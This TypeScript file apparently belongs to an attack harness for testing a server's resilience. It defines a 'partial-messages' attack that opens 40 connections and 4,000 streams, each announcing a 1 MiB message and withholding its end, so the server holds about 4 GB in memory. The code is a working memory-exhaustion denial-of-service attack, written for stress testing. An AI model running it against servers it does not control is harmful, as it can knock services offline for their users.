/**
 * Messages that never end. Each stream announces a message of 1 MiB and sends all but its end, which the server keeps: 4
 * GB for 4,000 streams. A Submit stream has no timeout of its first message.
 */
import type { Attack } from "../attack.js";
import { beginning } from "../attacker/framing.js";
import { METHOD } from "./messages.js";

const STREAMS = 4_000;
/** Enough that the window of a connection does not slow the attack down. */
const CONNECTIONS = 40;
const MESSAGE_BYTES = 1_048_576;

export const partialMessages: Attack = {
  name: "partial-messages",
  sends: `Submit: ${STREAMS} streams with a message of 1 MiB that never ends`,
  async run(attacker) {
    const connections = Array.from({ length: CONNECTIONS }, () => attacker.connect());
    const part = beginning(MESSAGE_BYTES, Buffer.alloc(MESSAGE_BYTES - 64));
    for (let i = 0; i < STREAMS && attacker.goesOn; i++) {
      connections[i % CONNECTIONS]?.open(METHOD.submit).sendBytes(part);
      if (i % 8 === 7) await attacker.wait(5);
    }
    await attacker.wait(1_000);
  },
};
